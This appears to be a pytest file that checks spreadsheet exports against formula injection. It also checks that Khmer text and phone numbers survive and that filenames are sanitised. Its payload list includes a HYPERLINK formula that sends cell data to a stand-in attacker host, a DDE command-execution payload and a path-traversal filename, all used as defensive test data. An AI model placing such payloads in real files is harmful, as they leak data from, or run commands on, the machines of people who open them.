"""Spreadsheet exports: formula payloads cannot run, not even in a piece of a cell that a spreadsheet splits off;
Khmer survives, phone numbers stay readable."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from documents.exports import csv_response, neutralise, safe_cell, safe_filename, xlsx_response

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2",
    "@SUM(1)",
    "\tx",
    "\rx",
    "=cmd|' /C calc'!A0",
]
KHMER = "ក្រសួងប្រៃសណីយ៍និងទូរគមនាគមន៍"
PHONES = ["+855 12 345 678", "+855-12-345-678", "+66 (2) 123 4567", "+84.24.3825.1234"]


def _csv_rows(response) -> list[list[str]]:
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_formula_payloads(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("phone", PHONES)
def test_safe_cell_keeps_phone_numbers_readable_as_text(phone):
    assert safe_cell(phone) == "'" + phone


@pytest.mark.parametrize("value", ["+85512345678", "+AA1234567", "+855 12 345 678", "+1", "+85512345678=1"])
def test_safe_cell_gives_nothing_that_looks_like_a_phone_number_an_exemption(value):
    # A passport number or an ID may start with "+" too: no look is trusted.
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Chan;=HYPERLINK(1)", "Chan;'=HYPERLINK(1)"),
        ("a,+1+1", "a,'+1+1"),
        ("a|@SUM(1)", "a|'@SUM(1)"),
        ("a\t-2", "a\t'-2"),
        ("a\n=1", "a\n'=1"),
        ("a\r\n=1", "a\r\n'=1"),
        ('a; "=1"', 'a; "\'=1"'),
        ("a;  \u00a0@x", "a;  \u00a0'@x"),
        ("  =1", "  '=1"),
        ('"=1"', '"\'=1"'),
        ("a;;=1;=2", "a;;'=1;'=2"),
        ("\t=1", "'\t'=1"),
    ],
)
def test_neutralise_prefixes_every_piece_a_spreadsheet_may_split_off(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize("value", ["a=b", "Phnom Penh - Siem Reap", "2027-01-02", "x@example.org", "a; b", "a,b-c"])
def test_neutralise_leaves_harmless_text_alone(value):
    assert neutralise(value) == value


def test_safe_cell_keeps_plain_values():
    assert safe_cell("Ministry of Posts") == "Ministry of Posts"
    assert safe_cell(KHMER) == KHMER
    assert safe_cell(None) == ""
    assert safe_cell(-2) == -2
    assert safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(True) == "yes"
    assert safe_cell("a=b") == "a=b"


def test_safe_filename_keeps_only_harmless_characters():
    assert safe_filename('ATF27 registrations "x"\r\n.csv') == "ATF27_registrations_x_.csv"
    assert safe_filename("../../etc/passwd") == "etc_passwd"
    assert safe_filename("") == "export"


def test_csv_response_neutralises_payloads_and_keeps_khmer_and_phones():
    response = csv_response(
        "people list.csv", ["name", "phone"], [[p, "+855 12 345 678"] for p in PAYLOADS] + [[KHMER, ""]]
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people_list.csv"'
    rows = _csv_rows(response)
    assert rows[0] == ["name", "phone"]
    for row, payload in zip(rows[1:], PAYLOADS, strict=False):
        assert row[0] == "'" + payload
        assert row[1] == "'+855 12 345 678"
    assert rows[-1][0] == KHMER
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_response_quotes_every_cell():
    response = csv_response("x", ["name", "count"], [["Sokha; Dara", 42], ["", None]])
    lines = response.content.decode("utf-8-sig").split("\r\n")
    assert lines[:3] == ['"name","count"', '"Sokha; Dara","42"', '"",""']


def test_xlsx_response_writes_every_cell_as_text():
    response = xlsx_response(
        "people.xlsx",
        ["name", "phone"],
        [[p, "+855 12 345 678"] for p in PAYLOADS] + [[KHMER, 42]],
        "Registrations: ATF/27",
    )
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="people.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert sheet.title == "Registrations  ATF 27"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type == "s", (cell.coordinate, cell.value)
    # XML turns a carriage return into a line feed; the cell is still text.
    expected = [payload.replace("\r", "\n") for payload in PAYLOADS]
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(PAYLOADS))] == expected
    assert sheet.cell(row=2, column=2).value == "+855 12 345 678"
    assert sheet.cell(row=len(PAYLOADS) + 2, column=1).value == KHMER
    assert sheet.cell(row=len(PAYLOADS) + 2, column=2).value == "42"
    assert sheet.cell(row=2, column=1).quotePrefix
    # No formula anywhere in the file itself.
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_xlsx_response_keeps_phone_numbers_as_written_and_survives_control_characters():
    response = xlsx_response("x", ["phone", "note"], [["+855 12 345 678", "a\x0bb"]], "S")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=2, column=1).value == "+855 12 345 678"
    assert sheet.cell(row=2, column=1).quotePrefix
    assert sheet.cell(row=2, column=2).value == "a\ufffdb"


def test_xlsx_response_leaves_empty_values_empty():
    response = xlsx_response("x", ["a", "b", "c"], [["", None, "=1"]], "S")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [sheet.cell(row=2, column=i).value for i in (1, 2, 3)] == [None, None, "=1"]
    assert sheet.cell(row=2, column=3).data_type == "s"
